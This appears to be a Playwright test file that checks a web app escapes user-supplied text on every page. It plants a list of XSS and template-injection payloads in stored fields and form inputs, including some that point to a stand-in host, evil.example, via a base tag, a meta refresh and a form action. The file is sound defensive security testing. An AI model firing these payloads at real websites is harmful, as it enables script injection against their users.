# ruff: noqa: E501 - payloads and what they are read by are one line each
"""Text that wants to be a program, in every stored field, on every page of a real browser."""

from dataclasses import replace

import pytest
from playwright.async_api import Browser, BrowserContext

from renku_spawner.context.app_context import write_transaction
from renku_spawner.domain.access import Role
from renku_spawner.domain.instances import InstanceStatus, Launch
from renku_spawner.domain.projects import ProjectChange, ProjectMember
from renku_spawner.domain.sessions import SessionChange
from renku_spawner.usecases.projects import change_project
from renku_spawner.usecases.sessions import change_session
from tests.fixtures.renku import RenkuHub

# Each says who it is, so that what is shown can be told from what is swallowed.
PAYLOADS = [
    "<script>alert({n})</script>", '"><img src=x onerror=alert({n})>', "'><svg onload=alert({n})>", "</title><script>alert({n})</script>",
    "</textarea><script>alert({n})</script>", "</script><script>alert({n})</script>", "<!--<img src=--><img src=x onerror=alert({n})//>",
    "{{{{{n}*7}}}}", "${{alert({n})}}", "{{% set x = {n} %}}", "javascript:alert({n})", "[x](javascript:alert({n}))",
    "' onmouseover='alert({n})", '" onfocus="alert({n})" autofocus="', "` onload=`alert({n})`", "<iframe srcdoc='<script>alert({n})</script>'>",
    "<a href=javascript:alert({n})>x</a>", "<math><mi//xlink:href='data:x,<script>alert({n})</script>'>", "<details open ontoggle=alert({n})>",
    "<style>@import'//evil.example/{n}'</style>", "<base href=//evil.example/{n}/>", "<meta http-equiv=refresh content='0;//evil.example/{n}'>",
    "<form action=//evil.example/{n}><button>x", "<input autofocus onfocus=alert({n})>", "<object data='javascript:alert({n})'>",
    "&lt;script&gt;alert({n})&lt;/script&gt;", "&#60;img src=x onerror=alert({n})&#62;", "%3Cscript%3Ealert({n})%3C/script%3E",
    "\\u003cscript\\u003ealert({n})", "<x onclick=alert({n}) style=position:fixed;inset:0>",
]  # fmt: skip
SEEN = "window.hacked = []; window.alert = window.confirm = window.prompt = (text) => window.hacked.push(String(text));"


class Planted:
    """A project in which every field that people fill holds a payload; `said` is what each page must show."""

    def __init__(self, hub: RenkuHub) -> None:
        self.hub, self.count = hub, 0

    def payload(self, *, longest: int = 99) -> str:
        """The next payload, with a number of its own."""
        while True:
            text = PAYLOADS[self.count % len(PAYLOADS)].format(n=1000 + self.count)
            self.count += 1
            if len(text) <= longest:
                return text

    async def plant(self) -> None:
        hub, alice = self.hub, self.hub.person("alice")
        made = await hub.project()
        self.title, self.description = self.payload(), "\n".join(PAYLOADS).format_map({"n": 1})
        self.members = [self.payload(), self.payload(), "g " + self.payload()]
        members = (
            ProjectMember(kind="user", name="alice", role=Role.OWNER),
            ProjectMember(kind="user", name=self.members[0], role=Role.EDITOR),
            ProjectMember(kind="user", name=self.members[1], role=Role.VIEWER),
            ProjectMember(kind="group", name=self.members[2], role=Role.VIEWER),
        )
        said = {"title": self.title, "description": self.description}
        change = ProjectChange(version=made.version, **said, members=members, allow_unknown=True)
        self.project = await change_project(hub.parts, alice, made.id, change)
        self.sessions = [await hub.session(self.project, self.payload()) for _ in PAYLOADS]
        self.session, self.failed = [await self._filled(each) for each in self.sessions[:2]]

    async def _filled(self, session):
        """A session with hostile words of its own, and an instance that says more of them."""
        hub = self.hub
        self.variables = {"A": self.payload(), "B": self.payload()}
        configuration = replace(session.configuration, variables=self.variables)
        change = SessionChange(version=session.version, description=self.description, configuration=configuration)
        changed = await change_session(hub.parts, hub.person("alice"), self.project.id, session.id, change)
        self.notice, self.message, self.log = self.payload(), self.payload(), self.payload()
        now, failed = hub.parts.now(), session is self.sessions[1]

        def work(tx):
            old = tx.instances.get_or_create(changed, "alice", now=now)
            notice = {"code": "clone_failed", "title": self.notice, "text": f"git: {self.notice}"}
            tx.instances.save(
                old,
                replace(
                    old, claim="aaaaaaaaaaaa" if failed else "bbbbbbbbbbbb", run=session.id, notices=(notice,),
                    message=self.message if failed else None, advice=self.message if failed else None,
                    reason="crash_exit" if failed else None, requested_at=now, paused_at=now,
                    resource_class=self.payload(), revision=changed.revision.id,
                ),
            )  # fmt: skip
            tx.launches.add(
                Launch(
                    id=session.id, session=session.id, project=self.project.id, username="alice",
                    revision=changed.revision.id, resource_class=self.payload(), requested_at=now,
                )
            )  # fmt: skip
            tx.launches.update(
                session.id, outcome="failed", reason="crash_exit", message=self.message, log=self.log, ended_at=now
            )

        await write_transaction(hub.parts, work)
        return changed

    def pages(self) -> dict[str, list[str]]:
        """Each page, and what it has to show of this."""
        base = "renku/projects/alice/climate"
        one, bad = f"{base}/-/sessions/{self.session.id}", f"{base}/-/sessions/{self.failed.id}"
        shown = [session.title for session in self.sessions[:20]]
        return {
            "renku/projects": [self.title],
            f"renku/projects?search={'%3Cscript%3Ealert(7)%3C/script%3E'}": [],
            "renku/projects/new": [],
            base: [self.title, *shown, *self.members],
            f"{base}?search=alert": [self.title],
            f"{base}/-/settings": [self.title, *self.members],
            f"{base}/-/delete": [self.title],
            f"{base}/-/sessions/new?keyword=%22%3E%3Cscript%3Ealert(8)%3C/script%3E": [],
            one: [self.session.title],
            bad: [self.failed.title, self.message, self.log, self.notice, f"git: {self.notice}", *self.variables.values()],
            f"{bad}/edit": [self.failed.title],
            f"{bad}/delete": [self.failed.title],
            "renku/sessions": [self.failed.title, self.message, self.notice],
            f"renku/sessions/{self.failed.id}/data": [self.failed.title],
            "renku/launch/alice/climate": [self.session.title],
            f"renku/launch/alice/climate/-/{self.failed.id}?path=%22%3E%3Cscript%3Ealert(9)%3C/script%3E&%3Cb%3E=1": [self.failed.title],
            "renku/no/such/%3Cscript%3Ealert(10)%3C/script%3E": [],
        }  # fmt: skip


@pytest.fixture
async def context(browser: Browser):
    made = await browser.new_context()
    await made.add_init_script(SEEN)
    yield made
    await made.close()


async def test_what_people_store_is_shown_as_text_on_every_page(renku_hub, context: BrowserContext):
    hub = await renku_hub()
    planted = Planted(hub)
    await planted.plant()
    visitor = await hub.visitor("alice")
    await context.add_cookies(
        [{"name": c.name, "value": c.value, "domain": "127.0.0.1", "path": c.path} for c in visitor.cookies.jar]
    )
    page = await context.new_page()
    dialogs, reports, foreign, complaints, wrong = [], [], [], [], []
    page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    page.on("request", lambda request: reports.append(request.url) if "csp-report" in request.url else None)
    page.on("request", lambda request: foreign.append(request.url) if "evil" in request.url.partition("?")[0] else None)
    page.on(
        "console",
        lambda message: complaints.append(message.text) if "Content Security Policy" in message.text else None,
    )
    for address, texts in planted.pages().items():
        await page.goto(f"{hub.url}{address}", wait_until="load")
        await page.locator("summary").evaluate_all(
            "(all) => all.forEach((each) => { each.parentElement.open = true; })"
        )
        values = await page.evaluate(
            "[...document.querySelectorAll('input, textarea')].map((each) => each.value).join('\\n')"
        )
        text = await page.evaluate("document.body.innerText") + "\n" + values
        missing = [each for each in texts if " ".join(each.split()) not in " ".join(text.split())]
        hacked, made = await page.evaluate(
            "[window.hacked, document.querySelectorAll('[onerror], [onload], [onfocus], base, iframe').length]"
        )
        if missing or hacked or made:
            wrong.append((address, missing, hacked, made))
    assert not wrong, "\n".join(map(str, wrong))
    assert (dialogs, reports, foreign, complaints) == ([], [], [], [])
    assert await hub.status(planted.failed) is InstanceStatus.FAILED


async def test_a_mistake_in_a_form_is_shown_again_as_text(renku_hub, context: BrowserContext):
    """What was refused is not stored, but it comes back into the form."""
    hub = await renku_hub()
    await hub.project()
    visitor = await hub.visitor("alice")
    await context.add_cookies(
        [{"name": c.name, "value": c.value, "domain": "127.0.0.1", "path": c.path} for c in visitor.cookies.jar]
    )
    page = await context.new_page()
    everything = "\n".join(payload.format(n=1) for payload in PAYLOADS)
    for payload in PAYLOADS[::8]:
        slug = payload.format(n=2)
        await page.goto(f"{hub.url}renku/projects/new")
        await page.fill("#title", "X")
        await page.eval_on_selector(
            "#slug", "(field, text) => { field.removeAttribute('maxlength'); field.value = text; }", slug
        )
        await page.fill("#description", everything)
        await page.fill("#repositories", everything)
        await page.click("main button.btn-primary")
        assert await page.get_attribute("#slug", "aria-invalid") == "true"
        assert await page.input_value("#slug") == slug
        assert await page.input_value("#description") == everything
        assert await page.input_value("#repositories") == everything
        assert await page.evaluate("window.hacked") == []
